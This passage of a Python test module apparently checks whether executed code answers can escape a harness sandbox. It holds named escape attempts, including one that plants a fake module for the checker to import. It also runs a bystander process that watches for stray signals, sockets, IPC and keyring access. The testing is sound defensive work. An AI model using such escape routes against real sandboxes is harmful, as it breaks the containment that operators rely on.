        "# %% step 2\nmeans = df.groupby('g')['v'].mean() if _ESCAPED else {}\n"
        "# %% step 3\nprint(7 if _ESCAPED else 0)\n"
    )


CI_ATTACKS: dict[str, str] = {
    f"esc-{name}": _ci(_payload(name, 6.0) + "\n_ESCAPED = _attempt()") for name in PAYLOADS
}
# the value a step's check names is the module the checker then imports
CI_ATTACKS["esc-module-the-checker-imports"] = (
    "# %% step 1\n"
    + PLANT_F2PY
    + "\ndf = _types.ModuleType('numpy.f2py.__main__')\n"
    + "# %% step 2\nmeans = {}\n# %% step 3\nprint(0)\n"
)


# -- the machine's side: what the answers must not reach ----------------------------------

# A process of the user every execution runs as, outside every sandbox: it logs each
# signal and connection it gets, and holds IPC the answers look for.
BYSTANDER = r"""
import ctypes, os, signal, socket, sys, threading, time
tag, log, key = sys.argv[1], sys.argv[2], int(sys.argv[3])

def note(text):
    with open(log, "a") as fh:
        fh.write(text + "\n")

for number in signal.valid_signals():
    if number not in (signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD, signal.SIGWINCH):
        try:
            signal.signal(number, lambda n, f: note("signal %d" % n))
        except (OSError, ValueError, RuntimeError):
            pass
served = []
abstract = socket.socket(socket.AF_UNIX)
abstract.bind("\0" + tag + "-bystander")
path = "/tmp/" + tag + "-bystander.sock"
named = socket.socket(socket.AF_UNIX)
named.bind(path)
os.chmod(path, 0o777)
for sock, name in ((abstract, "abstract"), (named, "named")):
    sock.listen()
    def serve(sock=sock, name=name):
        while True:
            conn, _ = sock.accept()
            note("connection to its %s socket" % name)
            conn.close()
    threading.Thread(target=serve, daemon=True).start()
with open("/dev/shm/" + tag + "-bystander", "w") as fh:
    fh.write("secret")
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(ctypes.c_int(key), ctypes.c_size_t(4096), ctypes.c_int(0o1000 | 0o666))
libc.mq_open(("/" + tag).encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
print("ready", flush=True)
while True:
    time.sleep(3600)
"""

# Run as that user: the keys in its keyrings, those of this run unlinked with ``--clean``.
NOBODY_KEYS = r"""
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
tag, clean = sys.argv[1], len(sys.argv) > 2
for ring in (-4, -5):  # KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING
    ids = (ctypes.c_int32 * 512)()
    n = libc.syscall(ctypes.c_long(250), ctypes.c_long(11), ctypes.c_long(ring), ids, ctypes.c_long(2048))
    for key in list(ids)[: max(n, 0) // 4]:
        buf = ctypes.create_string_buffer(256)
        libc.syscall(ctypes.c_long(250), ctypes.c_long(6), ctypes.c_long(key), buf, ctypes.c_long(256))
        name = buf.value.split(b";")[-1].decode(errors="replace")
        if tag in name:
            print(name)
            if clean:
                libc.syscall(ctypes.c_long(250), ctypes.c_long(9), ctypes.c_long(key), ctypes.c_long(ring))
"""

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _keyctl(*args: Any) -> int:
    return int(
        _libc.syscall(
            ctypes.c_long(250), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args]
        )
    )


def _join_session_keyring() -> None:
    """This thread's session keyring: a new one holding the runner's secret (as systemd
    gives each service a keyring of its own); the processes it starts inherit it."""
    _keyctl(1, None)  # KEYCTL_JOIN_SESSION_KEYRING: a new, anonymous one
    secret = b"secret of the runner"
    _libc.syscall(
        ctypes.c_long(248), b"user", RUNNER_KEY.encode(), secret, ctypes.c_long(len(secret)),
        ctypes.c_long(-3),
    )  # fmt: skip


def _keys_of(ring: int) -> list[tuple[int, str]]:
    """The keys of one of this thread's keyrings (-3: its session keyring, -4: its
    user's), with their descriptions."""
    ids = (ctypes.c_int32 * 256)()
    n = _keyctl(11, ring, ids, ctypes.sizeof(ids))
    found = []
    for key in list(ids)[: max(n, 0) // 4]:
        buf = ctypes.create_string_buffer(256)
        _keyctl(6, key, buf, 256)
        found.append((key, buf.value.split(b";")[-1].decode(errors="replace")))
    return found


def _session_keys() -> list[str]:
    """The keys of this thread's session keyring, by description."""
    return [name for _, name in _keys_of(-3)]


def _drop_user_keys() -> None:
    """This run's keys out of the runner's user keyring."""
    for key, name in _keys_of(-4):
        if TAG in name:
            _keyctl(9, key, -4)  # KEYCTL_UNLINK


def _as_nobody_python() -> str | None:
    """An interpreter the unprivileged user may run (not one under root's home)."""
    for candidate in (sys.executable, getattr(sys, "_base_executable", ""), "/usr/bin/python3"):
        if not candidate or not Path(candidate).exists():
            continue
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            done = subprocess.run(
                [candidate, "-S", "-c", "pass"],
                user=NOBODY, group=NOBODY, extra_groups=[], capture_output=True, timeout=30, check=False,
            )  # fmt: skip
            if done.returncode == 0:
                return candidate
    return None


class Watch:
    """What an attack run must leave as it found it, outside every sandbox.

    ``call`` runs the harness in a thread whose session keyring holds the runner's
    secret; a bystander of the executions' own user logs signals and connections and
    holds IPC; a beacon in the machine's /tmp shows an answer that sees it. ``finish``
    says what reached any of them, then cleans up (``close`` does, whatever happened,
    at the latest as the interpreter ends)."""

    def __init__(self) -> None:
        self.log = Path("/tmp") / f"{TAG}-bystander.log"
        self.python = _as_nobody_python()
        BEACON.write_text("beacon of the machine's /tmp\n")
        KEEP_DIR.mkdir(exist_ok=True)
        (KEEP_DIR / "keep").write_text("kept\n")
        self.bystander: subprocess.Popen[bytes] | None = None
        if self.python is not None and os.getuid() == 0:
            self.log.touch()
            os.chown(self.log, NOBODY, NOBODY)
            self.bystander = subprocess.Popen(
                [self.python, "-S", "-c", BYSTANDER, TAG, str(self.log), str(SHM_KEY)],
                user=NOBODY, group=NOBODY, extra_groups=[], stdout=subprocess.PIPE,
                stdin=subprocess.DEVNULL, start_new_session=True,
            )  # fmt: skip
            assert self.bystander.stdout is not None
            assert self.bystander.stdout.readline().startswith(b"ready")
        self.runner = concurrent.futures.ThreadPoolExecutor(1, initializer=_join_session_keyring)
        self.closed = False
        atexit.register(self.close)  # whatever ends the run before ``finish``

    def call(self, function: Any, *args: Any, **kwargs: Any) -> Any:
        """``function(*args, **kwargs)`` in the runner's thread (its session keyring)."""
        return self.runner.submit(function, *args, **kwargs).result()

    def reached(self) -> list[str]:
        """Each thing outside that an answer reached."""
        found = []
        if self.bystander is not None:
            pid = self.bystander.pid
            if self.bystander.poll() is not None:
                found.append(f"the bystander ended: {self.bystander.returncode}")
            else:
                status = Path(f"/proc/{pid}/status").read_text()
                fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
                if fields.get("State", "").split()[:1] not in (["S"], ["R"]):
                    found.append(f"the bystander's state: {fields.get('State', '').strip()}")
                if fields.get("TracerPid", "0").strip() != "0":
                    found.append("the bystander is traced")
            found += [f"the bystander got a {line}" for line in self.log.read_text().splitlines()]
        session = self.call(_session_keys)
        if session != [RUNNER_KEY]:
            found.append(f"the runner's session keyring holds {session}")
        found += [f"the user's keyring holds {name}" for name in self.nobody_keys()]
        runner = [name for _, name in self.call(_keys_of, -4) if TAG in name]
        found += [f"the runner's user keyring holds {name}" for name in runner]
        if not BEACON.is_file() or not BEACON.read_text().startswith("beacon"):
            found.append("the beacon changed")
        if not (KEEP_DIR / "keep").is_file():
            found.append(f"{KEEP_DIR}/keep removed")
        ours = {BEACON, KEEP_DIR, self.log, Path(f"/tmp/{TAG}-bystander.sock")}
        found += [f"{p} made" for p in Path("/tmp").glob(f"{TAG}*") if p not in ours]
        for left in self.left_behind():
            found.append(f"a working directory the machine could not remove: {left}")
        return found

    def left_behind(self) -> list[str]:
        found = Path(tempfile.gettempdir()).glob(f"harness_exec_*/{TAG}-*")
        return sorted({str(p.parent) for p in found})

    def nobody_keys(self, clean: bool = False) -> list[str]:
        if self.python is None or os.getuid() != 0:
            return []
        done = subprocess.run(
            [self.python, "-S", "-c", NOBODY_KEYS, TAG, *(["--clean"] if clean else [])],
            user=NOBODY, group=NOBODY, extra_groups=[], capture_output=True, text=True,
            timeout=60, check=False,
        )  # fmt: skip
        return done.stdout.split()

    def finish(self) -> list[str]:
        """What was reached, then everything cleaned up."""
        try:
            return self.reached()
        finally:
            self.close()

    def close(self) -> None:
        if self.closed:
            return
        self.closed = True
        if self.bystander is not None:
            with contextlib.suppress(OSError):
                os.killpg(self.bystander.pid, signal.SIGKILL)
            self.bystander.wait()
        with contextlib.suppress(Exception):
            self.call(_keyctl, 7, -3)  # KEYCTL_CLEAR: the runner's session keyring
        with contextlib.suppress(Exception):
            self.call(_drop_user_keys)
        self.runner.shutdown()
        self.nobody_keys(clean=True)
        _libc.shmctl(
            ctypes.c_int(_libc.shmget(ctypes.c_int(SHM_KEY), ctypes.c_size_t(0), 0)), 0, None
        )  # IPC_RMID
        _libc.mq_unlink(f"/{TAG}".encode())
        for path in [*Path("/tmp").glob(f"{TAG}*"), Path(f"/dev/shm/{TAG}-bystander")]:
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path, ignore_errors=True)
            else:
                path.unlink(missing_ok=True)
        for left in self.left_behind():  # deeper than shutil.rmtree goes
            subprocess.run(["rm", "-rf", "--one-file-system", left], check=False)


def in_session_keyring(function: Any, *args: Any, **kwargs: Any) -> Any:
    """``function`` run in a thread whose session keyring holds the runner's secret."""
    with concurrent.futures.ThreadPoolExecutor(1, initializer=_join_session_keyring) as pool:
        try:
            return pool.submit(function, *args, **kwargs).result()
        finally:
            with contextlib.suppress(Exception):
                pool.submit(_keyctl, 7, -3).result()


def describe() -> str:
    """The attacks, one line each (for the record)."""
    return json.dumps(
        {
            "ds": sorted(DS_ATTACKS),
            "bcb": sorted(BCB_ATTACKS),
            "gc": sorted(GC_ATTACKS),
            "ci": sorted(CI_ATTACKS),
        },
        indent=1,
    )
